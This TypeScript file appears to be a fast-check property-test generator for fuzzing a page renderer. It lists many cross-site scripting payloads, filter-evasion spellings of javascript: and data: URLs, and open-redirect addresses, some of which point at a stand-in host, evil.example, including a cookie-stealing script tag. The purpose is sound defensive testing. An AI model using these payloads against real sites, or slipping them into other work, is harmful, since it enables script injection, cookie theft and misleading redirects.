import fc from 'fast-check'

/** Ours, each after a way in which pages have been broken: whoever knows another adds it here. */
const ATTACKS: readonly string[] = [
  // Markup where words belong
  '<script>steal(document.cookie)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>go()</scr</script>ipt>', '<script/src=data:,go()>', '<script\n>go()</script\t\n x>',
  '<img src=x onerror=go()>', '<img/src="x"/onerror=go()//', '<IMG """><SCRIPT>go()</SCRIPT>">', '<image href=x onerror=go()>', '<body onload=go()>', '<svg onload=go()>', '<svg><animate onbegin=go() attributeName=x>', '<svg><a xlink:href="javascript:go()"><text>x',
  '<svg><style><img src=x onerror=go()></style>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=go()&gt;">', '<math href="javascript:go()">x</math>', '<iframe srcdoc="&lt;script&gt;go()&lt;/script&gt;">', '<iframe src=javascript:go()>',
  '<object data=javascript:go()>', '<embed src=javascript:go()>', '<form action=javascript:go()><button>x', '<button formaction=javascript:go()>', '<input autofocus onfocus=go()>', '<details open ontoggle=go()>', '<video><source onerror=go()>', '<audio src onerror=go()>',
  '<marquee onstart=go()>', '<meta http-equiv=refresh content="0;url=javascript:go()">', '<base href=//evil.example/>', '<link rel=stylesheet href=//evil.example/x.css>', '<style>@import "//evil.example"</style>', '<style>*{background:url(javascript:go())}</style>', '<p style="x:expression(go())">',
  '<template><script>go()</script></template>', '<noscript><p title="</noscript><img src=x onerror=go()>">', '<a href="javascript:go()">x</a>', '<a name=forms id=cookie>', '<portal src=//evil.example>', '<x-x onclick=go() tabindex=1>', '<?xml-stylesheet href="javascript:go()"?>', '<!DOCTYPE x [<!ENTITY a "b">]>',
  // Ways out of an element, an attribute, a comment, a script
  '">', "'>", '"><svg/onload=go()>', "' onmouseover='go()", '" onfocus="go()" autofocus="', '` onmouseover=go() `', ' onload=go() ', '</p></div></article></main></body></html>', '</li></ul></ol>', '</figcaption></figure>', '</a><a href=//evil.example>', '</sup>', '</script>', '</ScRiPt\u000c>', '</textarea>', '</title><script>go()</script>', '</style>', '</noscript>', '</template>', '</xmp>', '</plaintext>', '<plaintext>', '<textarea>', '<xmp>', '<select>', '<table><tr><td>', '<frameset>', '<isindex>', '<p', '<p/', '</', '</p', '<', '<!', '<!-', '<!--', '-->', '--!>', '<!--><script>go()</script>-->', '<!-- --!><script>go()</script>', '<![CDATA[', ']]>', '<?', '<%', '{{constructor.constructor("go()")()}}', '${go()}', '#{go()}', '<%= go() %>',
  // Entities, whole and cut off
  '&', '&&', '&amp', '&amp;', '&lt;script&gt;go()&lt;/script&gt;', '&#60;img src=x onerror=go()&#62;', '&#x3c;', '&#x00003c', '&#0;', '&#xd800;', '&#x110000;', '&#128;', '&notin;', '&notit;', '&nbsp', '&quot', '&#34', '&apos;', '&NewLine;', '&Tab;', '&colon;', '&lpar;',
  // Strings of JavaScript and JSON
  '"', "'", '`', '\\', '\\"', '";go();//', "';go();//", '\\u003c/script\\u003e', '\\x3cscript>', '*/go()/*', '//', '<!--<script>', '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'undefined', 'null', 'NaN', '[object Object]', '$&', '$1', '$`', "$'",
  // What looks like something of ours
  'reference-1', 'citation-1', '#reference-1', '<a href="#reference-1" id="citation-1">1</a>', '<sup class="citation">', 'src="/media/', 'Citation ①', 'Reference １', 'ﬁgure', '\u212aelvin',
]

/** Characters that parsers, terminals and eyes treat as something else than they are. */
const ODD = [
  '\u0000', '\u0001', '\u0008', '\t', '\n', '\u000b', '\u000c', '\r', '\r\n', '\u001b[2J', '\u007f', '\u0080', '\u0085', '\u00a0', '\u00ad', '\u034f', '\u061c', '\u115f', '\u180e', '\u200b', '\u200d', '\u200e', '\u200f', '\u2028', '\u2029', '\u202a', '\u202d', '\u202e', '\u2066', '\u2069', '\u2060',
  '\u3164', '\ufdd0', '\ufe0f', '\ufeff', '\uff1c', '\uff1e', '\uff02', '\u02b9', '\ufffe', '\uffff', '\ufffd', '\ud800', '\udbff', '\udc00', '\udfff', '\udc00\ud800', '\u{1f600}', '\u{1ffff}', '\u{10ffff}', '\u{e0001}', '\u0041\u0301\u0301\u0301\u0301', 'İ', 'ß', 'ﷺ', '𝒥', 'ſcript', '‹script›', '＜script＞', '%3Cscript%3E', '+ADw-script+AD4-',
] as const

/** Any UTF-16 unit by itself, halves of characters among them. */
export const unit: fc.Arbitrary<string> = fc.nat(0xffff).map((code) => String.fromCharCode(code))

const piece = fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...ATTACKS) }, { weight: 3, arbitrary: fc.constantFrom(...ODD) }, { weight: 2, arbitrary: fc.constantFrom('a', 'Salt', ' ', '1', '-', '<', '>', '&', '"', "'", '=', '/') }, fc.string({ unit, maxLength: 4 }))

/** Words of somebody who wants to break out of the page: attacks, whole, joined and cut off. */
export const words: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.array(piece, { maxLength: 4 }).map((pieces) => pieces.join('')) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...ATTACKS), fc.nat(40), fc.nat(40)).map(([attack, start, length]) => attack.slice(start, start + length)) },
)

/** Every character of a scheme in one of the spellings by which filters were passed. */
const spelled = (character: string): fc.Arbitrary<string> => {
  const code = character.charCodeAt(0)
  const own = [character, character.toUpperCase(), `&#${code};`, `&#${code}`, `&#x${code.toString(16)};`, `&#0000${code};`, `%${code.toString(16)}`, `\\u00${code.toString(16)}`, `\\x${code.toString(16)}`, String.fromCharCode(code + 0xfee0), `${character}\t`, `${character}\n`, `\r${character}`, `${character}\u0000`, `${character}\u00ad`, `${character}\u200b`, `${character}&Tab;`, `${character}&NewLine;`, `${character}/**/`]
  return fc.oneof({ weight: 12, arbitrary: fc.constant(character) }, fc.constantFrom(...own))
}

const inSpellings = (scheme: string): fc.Arbitrary<string> => fc.tuple(...Array.from(scheme, spelled)).map((characters) => characters.join(''))

const before = fc.constantFrom('', '', '', ' ', '\t', '\n', '\u0000', '\u0001', '\u001f', '\u00a0', '\u2028', '\ufeff', '\u200b', '\u202e', 'x', '/', '.', '#', '?', 'https:', 'url(', '"', "'", '&#1;', 'jar:', 'feed:', 'view-source:')
const colon = fc.constantFrom(':', ':', ':', '&colon;', '&#58;', '&#x3a', '：', '%3a', ':\n', '\t:', '&colon', '\u02d0')
const after = fc.constantFrom('go()', '//%0ago()', '//evil.example/%0ago()', '"><script>go()</script>', "'onclick='go()", 'text/html,<script>go()</script>', 'text/html;base64,PHNjcmlwdD5nbygpPC9zY3JpcHQ+', '&#103;&#111;()', '', '//', '\u2028go()', '\u202e)(og')
const schemes = ['javascript', 'JaVaScRiPt', 'data', 'vbscript', 'livescript', 'mocha', 'file', 'blob', 'filesystem', 'about', 'chrome', 'intent', 'ms-word', 'ftp', 'ws', 'http', 'https', 'mailto', 'tel']

/** Addresses that leave this page's host, or seem to, without naming a scheme. */
const RELATIVE: readonly string[] = [
  '//evil.example', '///evil.example', '////evil.example', '/\\evil.example', '\\/evil.example', '\\\\evil.example', '/\t/evil.example', '/\n/evil.example', '/\u0000/evil.example', '\t//evil.example', ' //evil.example', '\u00a0//evil.example', '/%09/evil.example', '/%2f/evil.example', '/.//evil.example', './/evil.example', '..//evil.example', '/..//evil.example', '/;//evil.example', './/\\evil.example', '?//evil.example', '#//evil.example',
  'https:evil.example', 'https:/evil.example', 'https:///evil.example', 'https:\\\\evil.example', 'https:/\\evil.example', 'http://', 'https://[', 'https://[::1', 'https://evil.example:99999', 'https://a b', 'https://user:pass@evil.example', 'https://page.example@evil.example', 'https://evil.example\\@page.example', 'https://evil。example', 'https://xn--', 'https://%00', 'https://?x', 'https://#x',
  '#reference-1', '#reference-999', '#citation-1', '#" id="citation-1', '#"><img src=x onerror=go()>', '/?"onclick="go()', "/?'onclick='go()", '/`onclick=`go()', '/&quot;onclick=&quot;go()', '/&#34;onclick=&#34;go()', '', '#', '?', '/', '.', '..', './', '../', '/a?b=1&c=2&copy=3&lt=4', 'mailto:', 'mailto:a@example.org?body=<script>', 'tel:', 'tel:+49"onclick="go()',
]

/** Addresses of somebody who wants a reader’s click to run something, or to lead where the page doesn’t say. */
export const hrefs: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.tuple(before, fc.constantFrom(...schemes).chain(inSpellings), colon, after).map((parts) => parts.join('')) },
  { weight: 2, arbitrary: fc.constantFrom(...RELATIVE) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('https://example.org/', '/', '#', '?', './', 'mailto:a@example.org?', 'tel:1'), words).map(([start, rest]) => start + rest) },
  { weight: 1, arbitrary: words },
)
